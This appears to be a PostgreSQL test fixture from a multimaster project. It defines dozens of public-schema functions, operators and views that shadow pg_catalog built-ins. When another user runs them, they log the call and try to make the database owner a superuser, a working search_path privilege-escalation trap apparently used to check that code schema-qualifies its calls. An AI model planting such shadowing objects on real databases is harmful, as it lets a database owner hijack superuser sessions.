-- Copyright (c) 2026 multimaster.postgresql contributors
-- SPDX-License-Identifier: GPL-3.0-or-later
--
-- What an owner of a database can put in the way of whoever else works in it: functions, operators and views that are chosen instead of
-- pg_catalog's. They do what those do, make their owner a superuser where they can, and say in the server's log who ran them
-- (hostile.TRAP).

CREATE FUNCTION public.climb() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'RESET ROLE';
    EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', (SELECT pg_catalog.pg_get_userbyid(datdba) FROM pg_catalog.pg_database
                              WHERE datname OPERATOR(pg_catalog.=) pg_catalog.current_database()));
    RETURN true;
EXCEPTION WHEN insufficient_privilege OR read_only_sql_transaction THEN
    RETURN false;
END $$;
CREATE FUNCTION public.trapped(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    IF session_user OPERATOR(pg_catalog.<>) (SELECT pg_catalog.pg_get_userbyid(datdba) FROM pg_catalog.pg_database
                         WHERE datname OPERATOR(pg_catalog.=) pg_catalog.current_database()) THEN
        RAISE LOG 'TRAPPED: % ran as % for %', what, current_user, session_user;
        PERFORM public.climb();
    END IF;
END $$;

-- Preferred to pg_catalog's for literals, wherever public is in the search path.
DO $traps$
DECLARE
    trap record;
BEGIN
    FOR trap IN
        SELECT * FROM (VALUES
            ('acldefault(a text, b oid)', 'aclitem[]', 'pg_catalog.acldefault(a::"char", b)'),
            ('format(a text, b text)', 'text', 'pg_catalog.format(a, b)'),
            ('format(a text, b text, c text)', 'text', 'pg_catalog.format(a, b, c)'),
            ('obj_description(a regclass, b text)', 'text', 'pg_catalog.obj_description(a, b::name)'),
            ('shobj_description(a oid, b text)', 'text', 'pg_catalog.shobj_description(a, b::name)'),
            ('concat_ws(a text, b text, c text)', 'text', 'pg_catalog.concat_ws(a, b, c)'),
            ('concat(a text, b text)', 'text', 'pg_catalog.concat(a, b)'),
            ('json_build_object(a text, b text)', 'json', 'pg_catalog.json_build_object(a, b)'),
            ('jsonb_build_object(a text, b text)', 'jsonb', 'pg_catalog.jsonb_build_object(a, b)'),
            ('to_jsonb(a name)', 'jsonb', 'pg_catalog.to_jsonb(a)'),
            ('quote_ident(a name)', 'text', 'pg_catalog.quote_ident(a::text)'),
            ('lower(a name)', 'text', 'pg_catalog.lower(a::text)'),
            ('length(a name)', 'integer', 'pg_catalog.length(a::text)'),
            ('split_part(a name, b text, c integer)', 'text', 'pg_catalog.split_part(a::text, b, c)'),
            ('has_table_privilege(a name, b regclass, c text)', 'boolean', 'pg_catalog.has_table_privilege(a, b::oid, c)'),
            ('pg_size_pretty(a integer)', 'text', 'pg_catalog.pg_size_pretty(a::bigint)'),
            ('pg_wal_lsn_diff(a pg_lsn, b text)', 'numeric', 'pg_catalog.pg_wal_lsn_diff(a, b::pg_lsn)'),
            -- Of pg_catalog's own types: chosen where public comes before pg_catalog in the path.
            ('pg_get_userbyid(a oid)', 'name', 'pg_catalog.pg_get_userbyid(a)'),
            ('current_setting(a text)', 'text', 'pg_catalog.current_setting(a)'),
            ('current_database()', 'name', 'pg_catalog.current_database()'),
            ('pg_is_in_recovery()', 'boolean', 'pg_catalog.pg_is_in_recovery()'),
            ('version()', 'text', 'pg_catalog.version()'),
            ('now()', 'timestamptz', 'pg_catalog.now()'),
            ('clock_timestamp()', 'timestamptz', 'pg_catalog.clock_timestamp()'),
            ('to_regclass(a text)', 'regclass', 'pg_catalog.to_regclass(a)'),
            ('format_type(a oid, b integer)', 'text', 'pg_catalog.format_type(a, b)'),
            ('set_config(a text, b text, c boolean)', 'text', 'pg_catalog.set_config(a, b, c)'),
            ('pg_advisory_lock(a bigint)', 'void', 'pg_catalog.pg_advisory_lock(a)'),
            ('pg_current_wal_lsn()', 'pg_lsn', 'pg_catalog.pg_current_wal_lsn()')
        ) AS traps (signature, result, body)
    LOOP
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.%s RETURNS %s LANGUAGE plpgsql AS $body$ BEGIN PERFORM public.trapped(%L); %s; END $body$',
            trap.signature, trap.result, trap.signature,
            CASE trap.result WHEN 'void' THEN 'PERFORM ' || trap.body ELSE 'RETURN ' || trap.body END);
    END LOOP;
END $traps$;

CREATE FUNCTION public.trapped_times(a numeric, b bigint) RETURNS numeric LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.trapped('numeric * bigint');
    RETURN a OPERATOR(pg_catalog.*) b;
END $$;
CREATE OPERATOR public.* (LEFTARG = numeric, RIGHTARG = bigint, FUNCTION = public.trapped_times);
CREATE FUNCTION public.trapped_equal(a name, b varchar) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.trapped('name = varchar');
    RETURN a OPERATOR(pg_catalog.=) b::text;
END $$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = varchar, FUNCTION = public.trapped_equal);
CREATE FUNCTION public.trapped_join(a name, b text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
    PERFORM public.trapped('name || text');
    RETURN a::text OPERATOR(pg_catalog.||) b;
END $$;
CREATE OPERATOR public.|| (LEFTARG = name, RIGHTARG = text, FUNCTION = public.trapped_join);

-- In the place of catalogues.
CREATE VIEW public.pg_roles AS SELECT r.* FROM pg_catalog.pg_roles r, LATERAL (SELECT public.trapped('view pg_roles')) AS trap;
CREATE VIEW public.pg_stat_subscription AS
    SELECT s.* FROM pg_catalog.pg_stat_subscription s, LATERAL (SELECT public.trapped('view pg_stat_subscription')) AS trap;
CREATE VIEW public.pg_publication_tables AS
    SELECT p.* FROM pg_catalog.pg_publication_tables p, LATERAL (SELECT public.trapped('view pg_publication_tables')) AS trap;
